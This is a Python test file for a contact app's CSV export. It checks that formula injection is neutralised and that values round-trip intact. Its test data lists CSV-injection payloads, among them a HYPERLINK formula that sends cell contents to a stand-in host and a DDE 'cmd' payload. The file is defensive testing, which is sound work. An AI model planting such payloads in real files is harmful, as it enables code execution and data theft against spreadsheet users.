"""What a spreadsheet would compute is text in an exported file, and comes back as it was."""

import csv
import io
import random
import re
import time

import pytest

from soinbox_web.model import card_file
from soinbox_web.model.formulas import as_text, as_typed
from soinbox_web.model.person import CardAddress, Person

FORMULAS = (
    '=HYPERLINK("https://x.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\xa0=1",
    "＝1+1",
    "＋1+1",
    "－1",
    "＠SUM(A1)",
    "'=1",
    "''=1",
    '"=1',
    "Jansen;=1+1",
    "Jansen,=1+1",
    "Jansen\t@SUM(A1)",
    'x","=1',
    'x";"=1',
    ";;;=1",
    "+",
    "=",
    "+31;=1",
    "+ ",
    "+31 6 1;-1",
)
PLAIN = (
    "",
    "Anna",
    "Jansen-Smit",
    "'t Hooft",
    "Noordlicht; Verlichting",
    "+31 6 12345678",
    "06-1234",
    "a=b",
    "a@b.nl",
    "De Boer (inkoop)",
    "Smit & Zn.",
    '"Zon"',
)


def cells(text: str) -> list[str]:
    """Every cell of a file, by whichever sign a spreadsheet takes to part them."""
    found = [
        cell
        for sign in ",;\t"
        for row in csv.reader(io.StringIO(text, newline=None), delimiter=sign)
        for cell in row
    ]
    return [*found, *re.split(r'[,;\t\r\n]"?', text)]


def computed(cell: str) -> bool:
    cell = cell.strip(' "\xa0')
    return cell.startswith(tuple("=+-@＝＋－＠")) and not re.fullmatch(r"\+[0-9][0-9 ]*", cell)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula_whatever_parts_the_cells(formula: str) -> None:
    person = Person(1, formula, formula, formula, formula, formula, (CardAddress(1, "=1+1@x.example", 1),))
    twice = Person(
        2, "a", "", "", "", "", (CardAddress(1, "a@x.example", 1), CardAddress(2, "-1@x.example", 2))
    )
    assert [cell for cell in cells(card_file.write_csv([person, twice])) if computed(cell)] == []


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_words_and_telephone_numbers_stay_as_they_are(text: str) -> None:
    assert as_text(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_it_comes_back_as_it_was(text: str) -> None:
    assert as_typed(as_text(text)) == text


def test_whatever_is_written_comes_back() -> None:
    chance = random.Random(11)
    for _ in range(20_000):
        text = "".join(chance.choices("=+-@'\" ;,\t\r\n1a＝\xa0", k=chance.randrange(12)))
        assert as_typed(as_text(text)) == text
        assert not any(map(computed, [as_text(text), *re.split("[;,\t\r\n]", as_text(text))]))


def test_a_card_with_formulas_is_the_same_after_export_and_import() -> None:
    person = Person(
        1, "=Anna", "-Vries", "@work", "+plus, =min", "+31 6 1", (CardAddress(1, "=1@x.example", 1),)
    )
    (draft,) = card_file.read_csv(card_file.write_csv([person]))
    assert draft.values == {
        "first_name": "=Anna",
        "last_name": "-Vries",
        "title": "@work",
        "company": "+plus, =min",
        "phone": "+31 6 1",
    }
    assert draft.addresses == ("=1@x.example",)


@pytest.mark.parametrize("piece", ["'", '"', " ", ";", "=", "+1", "+ ", "\t", "\xa0"])
def test_time_grows_with_the_length(piece: str) -> None:
    begin = time.process_time()
    as_typed(as_text(piece * 500_000))
    assert time.process_time() - begin < 2.0
